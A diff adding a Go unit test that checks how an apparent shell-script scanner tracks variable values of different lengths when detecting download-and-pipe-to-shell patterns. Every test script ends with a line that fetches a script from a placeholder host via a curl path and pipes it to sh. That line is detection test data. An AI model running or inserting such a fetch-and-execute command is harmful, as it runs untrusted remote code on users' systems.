@@ -274,3 +274,27 @@ func TestShellTrailingBackslash(t *testing.T) {
 		}
 	}
 }
+
+// TestShellVariableBounds: a value of up to 64 bytes is always kept (a
+// command name or a path), one of up to 512 only while the values kept
+// total less than 256 KiB; longer ones never.
+func TestShellVariableBounds(t *testing.T) {
+	path := func(n int) string { return "/" + strings.Repeat("a", n-6) + "/curl" }
+	fill := strings.Repeat("v="+strings.Repeat("x", 512)+"\n", 512) // exactly 256 KiB kept
+	for _, tc := range []struct {
+		name, script string
+		want         bool
+	}{
+		{"64 bytes", "c=" + path(64), true},
+		{"512 bytes", "c=" + path(512), true},
+		{"513 bytes", "c=" + path(513), false},
+		{"64 bytes after the budget", fill + "c=" + path(64), true},
+		{"65 bytes after the budget", fill + "c=" + path(65), false},
+		{"65 bytes just before the budget", strings.Repeat("v="+strings.Repeat("x", 512)+"\n", 511) + "c=" + path(65), true},
+	} {
+		got := slices.Contains(scriptCodes(tc.script+"\n$c -s https://x.example/i.sh | sh\n"), pipe)
+		if got != tc.want {
+			t.Errorf("%s: found %v, want %v", tc.name, got, tc.want)
+		}
+	}
+}
